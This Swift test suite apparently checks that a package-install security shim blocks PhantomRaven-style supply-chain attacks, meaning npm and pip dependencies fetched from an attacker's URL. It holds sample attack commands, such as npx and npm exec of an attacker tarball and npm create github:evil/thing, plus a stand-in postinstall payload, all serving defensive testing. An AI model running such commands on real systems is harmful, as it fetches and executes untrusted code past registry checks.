import Foundation
import Testing
import BouncerTestSupport

/// PhantomRaven (2025): registry packages that declare a dependency on an
/// `http://…` tarball, which npm fetches from the attacker's server, past
/// the registry and any check on it, and whose install script then runs.
/// `exoticSources` refuses such dependencies anywhere in the resolved tree
/// before anything is fetched: the attacker's request log stays empty and
/// the payload's marker file never appears. The same holds for Python's
/// direct-URL requirements.
@Suite(.blocking, .serialized) struct RemoteDependencyTests {
    let root: URL
    let registry: TimedRegistry
    let attacker: DirectoryHTTPServer
    let attackerDirectory: URL
    let marker: URL

    init() throws {
        root = try BouncerProcess.temporaryDirectory("bouncer-threat-remote")
        registry = try TimedRegistry(root: root)
        attackerDirectory = root.appendingPathComponent("attacker")
        try FileManager.default.createDirectory(at: attackerDirectory.appendingPathComponent("dist"), withIntermediateDirectories: true)
        attacker = try DirectoryHTTPServer(root: attackerDirectory.path)
        marker = root.appendingPathComponent("payload-ran")
    }

    var payloadURL: String { attacker.baseURL + "/dist/ui-styles.tgz" }

    /// The payload (a postinstall leaving a marker) on the attacker's server,
    /// and `app` in the registry depending on it by URL. Returns the integrities.
    /// `field`: where `app` names it (npm 7 and later install `peerDependencies` too).
    func publish(field: String = "dependencies") throws -> (app: String, payload: String) {
        // Packed in a scratch registry, then moved to the attacker's own path.
        let scratch = try TimedRegistry(root: root.appendingPathComponent("scratch"))
        let payload = try scratch.publish("ui-styles", "1.0.0", time: "2024-01-01T00:00:00.000Z",
                                          scripts: ["postinstall": PostinstallWormTests.markerScript(marker)])
        try FileManager.default.moveItem(at: scratch.directory.appendingPathComponent("ui-styles/-/ui-styles-1.0.0.tgz"),
                                         to: attackerDirectory.appendingPathComponent("dist/ui-styles.tgz"))
        let app = try registry.publish("app", "1.0.0", time: "2024-01-01T00:00:00.000Z", fields: [field: ["ui-styles": payloadURL]])
        return (app, payload)
    }

    @Test func anNpmDependencyOnAnHTTPTarballIsRefusedBeforeItIsFetched() throws {
        defer { try? FileManager.default.removeItem(at: root) }
        let integrity = try publish()
        let harness = try ShimHarness("bouncer-threat-remote-npm")
        defer { harness.cleanup() }
        try ThreatFixtures.policy().write(to: harness.file("policy.json"), atomically: true, encoding: .utf8)
        try #"{"name":"proj","version":"1.0.0","dependencies":{"app":"1.0.0"}}"#.write(to: harness.file("package.json"), atomically: true, encoding: .utf8)
        // The lock as npm writes it for such a tree (written here: making it with npm would fetch the payload).
        let lock: [String: Any] = [
            "name": "proj", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
            "packages": [
                "": ["name": "proj", "version": "1.0.0", "dependencies": ["app": "1.0.0"]],
                "node_modules/app": ["version": "1.0.0", "resolved": registry.server.baseURL + "/app/-/app-1.0.0.tgz",
                                     "integrity": integrity.app, "dependencies": ["ui-styles": payloadURL]],
                "node_modules/ui-styles": ["version": "1.0.0", "resolved": payloadURL, "integrity": integrity.payload, "hasInstallScript": true],
            ],
        ]
        try JSONSerialization.data(withJSONObject: lock).write(to: harness.file("package-lock.json"))

        let result = try harness.sh("npm ci")
        #expect(result.status == 1, "\(result.out)\n\(result.err)")
        #expect(result.err.contains("exotic-source"), "\(result.err)")
        #expect(result.err.contains(payloadURL), "\(result.err)")
        #expect(attacker.requests.isEmpty, "the attacker's server was asked: \(attacker.requests)")
        #expect(registry.server.requests.isEmpty, "nothing at all is fetched: \(registry.server.requests)")
        #expect(!FileManager.default.fileExists(atPath: marker.path), "the payload ran")
        #expect(!harness.exists("node_modules"))
    }

    /// `npm exec` (what `npx` runs) of a package from a URL: npm would fetch
    /// it from there, past the proxy, install it with its scripts and run
    /// its command. Refused before anything is fetched, whichever way the
    /// package is named.
    @Test(arguments: ["npm exec --yes -- PAYLOAD", "npm exec --yes --package=PAYLOAD -- ui-styles",
                      "npm exec --yes --package PAYLOAD ui-styles", "npm x --yes PAYLOAD",
                      "npx --yes PAYLOAD", "npx -y -p PAYLOAD ui-styles"])
    func anNpmExecOfAnHTTPTarballIsRefusedBeforeItIsFetched(command: String) throws {
        defer { try? FileManager.default.removeItem(at: root) }
        _ = try publish()
        let harness = try ShimHarness("bouncer-threat-remote-exec")
        defer { harness.cleanup() }
        try ThreatFixtures.policy().write(to: harness.file("policy.json"), atomically: true, encoding: .utf8)
        let result = try harness.sh(command.replacing("PAYLOAD", with: payloadURL))
        #expect(result.status == 1, "\(result.out)\n\(result.err)")
        #expect(result.err.contains("exotic-source"), "\(result.err)")
        // Said in the name of the tool the user ran.
        #expect(result.err.contains("bouncer: \(command.hasPrefix("npx") ? "npx" : "npm"): refused"), "\(result.err)")
        #expect(result.err.contains(payloadURL), "\(result.err)")
        #expect(attacker.requests.isEmpty, "the attacker's server was asked: \(attacker.requests)")
        #expect(!FileManager.default.fileExists(atPath: marker.path), "the payload ran")
    }

    /// The same commands with a registry package run it, verified and pinned
    /// by the shim's proxy first.
    @Test(arguments: ["npm exec --yes --registry REGISTRY -- hello-cli", "npm exec --yes --registry REGISTRY --package=hello-cli -- hello-cli",
                      "npx --yes --registry REGISTRY hello-cli", "npx -y --registry=REGISTRY -p hello-cli hello-cli"])
    func anNpmExecOfARegistryPackageRunsItVerified(command: String) throws {
        defer { try? FileManager.default.removeItem(at: root) }
        try registry.publish("hello-cli", "1.0.0", time: "2024-01-01T00:00:00.000Z",
                             files: ["cli.js": "#!/usr/bin/env node\nconsole.log('hello from the registry');\n"], bin: ["hello-cli": "cli.js"])
        let harness = try ShimHarness("bouncer-threat-remote-exec-ok")
        defer { harness.cleanup() }
        try ThreatFixtures.policy().write(to: harness.file("policy.json"), atomically: true, encoding: .utf8)
        let result = try harness.sh(command.replacing("REGISTRY", with: registry.url))
        #expect(result.status == 0, "\(result.out)\n\(result.err)")
        #expect(result.out.contains("hello from the registry"), "\(result.out)\n\(result.err)")
        #expect(registry.tarballFetches("hello-cli").count == 1)
        let lock = try String(contentsOf: harness.file("bouncer.lock"), encoding: .utf8)
        #expect(lock.contains("hello-cli-1.0.0.tgz"), "\(lock)")
    }

    /// `npm create` and `npm init` of a git initializer run `npm exec` of
    /// `github:user/create-NAME`, and `npm pack` of a git spec runs its
    /// `prepare` to pack it: fetched with git, past the proxy. Refused
    /// before npm starts (no request leaves this machine).
    @Test(arguments: ["npm create github:evil/thing", "npm init --yes github:evil/thing", "npm create evil/thing",
                      "npm pack github:evil/thing"])
    func anInitializerFromGitIsRefused(command: String) throws {
        defer { try? FileManager.default.removeItem(at: root) }
        let harness = try ShimHarness("bouncer-threat-remote-init")
        defer { harness.cleanup() }
        try ThreatFixtures.policy().write(to: harness.file("policy.json"), atomically: true, encoding: .utf8)
        let result = try harness.sh(command)
        #expect(result.status == 1, "\(result.out)\n\(result.err)")
        #expect(result.err.contains("exotic-source"), "\(result.err)")
        #expect(!harness.exists("package.json"))
    }

    @Test(arguments: ["dependencies", "peerDependencies", "optionalDependencies"])
    func serveDoesNotOfferAVersionWithAnHTTPTarballDependency(field: String) throws {
        defer { try? FileManager.default.removeItem(at: root) }
        _ = try publish(field: field)
        let serve = try ServeProcess(root: root, arguments: ["--npm-upstream", registry.url], policy: ThreatFixtures.policy())
        let packument = try CurlGet.run(serve.base + "/npm/app")
        let document = try JSONSerialization.jsonObject(with: packument.body) as? [String: Any]
        #expect((document?["versions"] as? [String: Any])?.isEmpty == true, "\(packument.text)")

        let project = root.appendingPathComponent("proj")
        try FileManager.default.createDirectory(at: project, withIntermediateDirectories: true)
        try #"{"name":"proj","version":"1.0.0"}"#.write(to: project.appendingPathComponent("package.json"), atomically: true, encoding: .utf8)
        let installed = try BouncerProcess.runProgram(registry.npm, ["install", "--no-fund", "--no-audit", "app"], cwd: project.path, environment: [
            "npm_config_registry": serve.base + "/npm/", "npm_config_cache": root.appendingPathComponent("npm-cache").path,
            "npm_config_update_notifier": "false", "HOME": root.path])
        #expect(installed.status != 0, "\(installed.out)\n\(installed.err)")
        #expect(attacker.requests.isEmpty, "the attacker's server was asked: \(attacker.requests)")
        #expect(!FileManager.default.fileExists(atPath: marker.path), "the payload ran")
        #expect(try serve.stop().status == 0)
    }

    @Test func aPythonDirectURLRequirementIsRefusedUnlessAllowed() throws {
        defer { try? FileManager.default.removeItem(at: root) }
        let file = try ThreatFixtures.wheel("remote", "1.0", marker: "remote", into: attackerDirectory.appendingPathComponent("dist"))
        let digest = try ThreatFixtures.sha256(attackerDirectory.appendingPathComponent("dist/" + file))
        let harness = try ThreatFixtures.pipHarness("bouncer-threat-remote-pip")
        defer { harness.cleanup() }
        let requirement = "remote @ \(attacker.baseURL)/dist/\(file)#sha256=\(digest)"
        let pip = ThreatFixtures.pipInstall

        let refused = try harness.sh("\(pip) '\(requirement)'")
        #expect(refused.status == 1, "\(refused.out)\n\(refused.err)")
        #expect(refused.err.contains("exotic-source"), "\(refused.err)")
        #expect(attacker.requests.isEmpty, "refused before anything was fetched: \(attacker.requests)")
        #expect((try harness.sh("python -c 'import remote'")).status != 0)

        try ThreatFixtures.policy(top: [#""exoticSources": { "allow": ["remote @ http://127.0.0.1:*/dist/*"] }"#])
            .write(to: harness.file("policy.json"), atomically: true, encoding: .utf8)
        let allowed = try harness.sh("\(pip) '\(requirement)'")
        #expect(allowed.status == 0, "\(allowed.out)\n\(allowed.err)")
        #expect((try harness.sh("python -c 'import remote; print(remote.MARKER)'")).out.trimmingCharacters(in: .whitespacesAndNewlines) == "remote")
    }

    /// PhantomRaven's Python form (red team): a wheel on the trusted index whose
    /// METADATA requires `evilsd @ URL`. pip fetched that sdist from the URL
    /// itself and ran its build backend; nothing judged it. Now the wheel is
    /// refused as `exotic-source`, and so is the PEP 658 metadata file pip
    /// resolves from (also when only that file names the URL, the wheel's own
    /// METADATA clean): the URL is never fetched, nothing is installed.
    @Test(arguments: [false, true]) func aWheelThatRequiresAURLIsRefusedWherePipReadsItsMetadata(pep658: Bool) throws {
        defer { try? FileManager.default.removeItem(at: root) }
        let index = try JSONIndex(root: root.appendingPathComponent("index"))
        let remote = "evilsd @ \(attacker.baseURL)/dist/evilsd-1.0.tar.gz"
        let metadata = "Metadata-Version: 2.1\nName: remdep\nVersion: 1.0\nRequires-Dist: \(remote)\n"
        let clean = "Metadata-Version: 2.1\nName: remdep\nVersion: 1.0\n"
        let file = try ThreatFixtures.wheel("remdep", "1.0", marker: "remdep", extra: ["remdep-1.0.dist-info/METADATA": pep658 ? clean : metadata],
                                            into: index.packages)
        try index.page("remdep", [(file, ThreatFixtures.longAgo)], coreMetadata: pep658 ? [file: metadata] : [:])
        let harness = try ThreatFixtures.pipHarness("bouncer-threat-remote-requirement")
        defer { harness.cleanup() }

        let result = try harness.sh("\(ThreatFixtures.pipInstall) --index-url '\(index.url)' remdep==1.0")
        #expect(result.status != 0, "\(result.out)\n\(result.err)")
        #expect(result.err.contains("requires \(remote)") && result.err.contains("exoticSources.allow"), "\(result.err)")
        #expect(attacker.requests.isEmpty, "the URL was fetched: \(attacker.requests)")
        #expect((try harness.sh("python -c 'import remdep'")).status != 0, "remdep must not be installed")
        #expect(ThreatFixtures.lockEntries(harness.file("bouncer.lock"))["pypi:remdep@1.0"] == nil)
    }
}
